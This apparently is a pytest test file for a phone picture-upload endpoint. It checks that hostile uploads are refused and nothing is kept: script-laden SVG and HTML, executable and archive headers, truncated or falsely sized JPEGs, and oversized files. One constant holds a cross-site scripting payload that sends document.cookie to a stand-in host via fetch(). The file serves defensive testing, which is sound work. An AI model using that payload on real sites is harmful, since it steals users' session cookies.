"""P41: a hostile file from a phone stores nothing, and the address stays open for a true picture."""

import struct

import pytest

from tests.agents.phones import hand_over, kept
from tests.agents.walk import Walk
from tests.pictures import card

SCRIPT = b"<script>fetch('//kilroy.example/'+document.cookie)</script>"


def said_to_measure(width: int, height: int) -> bytes:
    """A JPEG whose frame tells other sides than it has."""
    whole = card()
    at = whole.index(b"\xff\xc0") + 5
    return whole[:at] + struct.pack(">HH", height, width) + whole[at + 4 :]


HOSTILE = {
    "empty": b"",
    "a drawing with a script": b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
    "a page": b"<!doctype html>" + SCRIPT,
    "a program": b"\x7fELF" + bytes(4096),
    "an archive": b"PK\x03\x04" + bytes(4096),
    "the start of a picture alone": b"\xff\xd8\xff\xe0" + SCRIPT,
    "half a picture": card()[: len(card()) // 2],
    "64k pixels": said_to_measure(65_535, 65_535),
    "one pixel": said_to_measure(1, 1),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_p41_a_hostile_file_is_refused_and_ends_nothing(walk: Walk, name: str) -> None:
    public_id = walk.registered()
    phone = hand_over(walk, public_id, "identity")
    answer = phone.send("identity", HOSTILE[name])
    assert answer.status_code == 422
    assert 'id="picture-errors"' in answer.text
    assert SCRIPT.decode() not in answer.text
    assert kept(walk, public_id) == []
    assert phone.send("identity").headers["Location"] == "/phone/done"


def test_p41_of_what_stands_beside_a_picture_in_its_file_nothing_is_kept(walk: Walk) -> None:
    public_id = walk.registered()
    phone = hand_over(walk, public_id, "identity")
    comment = b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT
    assert phone.send("identity", card()[:2] + comment + card()[2:]).headers["Location"] == "/phone/done"
    [picture] = kept(walk, public_id)
    assert picture.content
    assert b"kilroy" not in picture.content


def test_p41_what_is_far_too_large_is_refused_and_ends_nothing(walk: Walk) -> None:
    public_id = walk.registered()
    phone = hand_over(walk, public_id, "identity")
    assert phone.send("identity", card() + bytes(4_000_000)).status_code == 413
    assert kept(walk, public_id) == []
    assert phone.look().status_code == 200
